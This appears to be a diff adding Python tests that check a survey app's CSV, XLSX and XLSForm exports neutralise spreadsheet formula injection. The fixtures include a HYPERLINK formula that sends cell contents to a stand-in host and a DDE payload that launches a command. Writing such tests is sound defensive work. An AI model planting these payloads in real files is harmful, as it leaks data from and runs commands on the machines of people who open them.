@@ -1,0 +1,36 @@
+"""The answers exports cannot carry a formula (an anonymous public link can write any text); the XLSForm
+round trip keeps exact values, stored as text."""
+
+import csv
+import io
+
+from openpyxl import load_workbook
+
+from fne_surveys.questionnaires.xlsform import from_workbook, to_workbook
+from fne_surveys.results.exports import csv_chunks, workbook
+
+FORMULA = '=HYPERLINK("https://x.example/?"&A1;"Voir")'
+
+
+async def batches():  # type: ignore[no-untyped-def]
+    yield [["r1", FORMULA, "+cmd|' /C calc'!A0", -2, "@x", "ordinaire"]]
+
+
+async def test_the_csv_and_xlsx_exports_of_answers_neutralise_formulas() -> None:
+    header = ["id", "a", "b", "c", "d", "e"]
+    text = b"".join([chunk async for chunk in csv_chunks(header, batches())]).decode("utf-8-sig")
+    row = list(csv.reader(io.StringIO(text)))[1]
+    assert row == ["r1", "'" + FORMULA, "'+cmd|' /C calc'!A0", "-2", "'@x", "ordinaire"]
+    sheet = load_workbook(io.BytesIO(await workbook(header, batches()))).active
+    cells = list(sheet.iter_rows(min_row=2))[0]
+    assert [cell.value for cell in cells] == ["r1", "'" + FORMULA, "'+cmd|' /C calc'!A0", -2, "'@x", "ordinaire"]
+    assert all(cell.data_type != "f" for cell in cells)
+
+
+def test_the_xlsform_workbook_keeps_formula_like_text_exact_and_inert() -> None:
+    document = {"survey": [{"type": "text", "name": "q1", "label": FORMULA}], "choices": [], "settings": []}
+    content = to_workbook(document)
+    sheet = load_workbook(io.BytesIO(content))["survey"]
+    label = next(cell for cells in sheet.iter_rows() for cell in cells if cell.value == FORMULA)
+    assert label.data_type == "s"
+    assert from_workbook(content)["survey"][0]["label"] == FORMULA
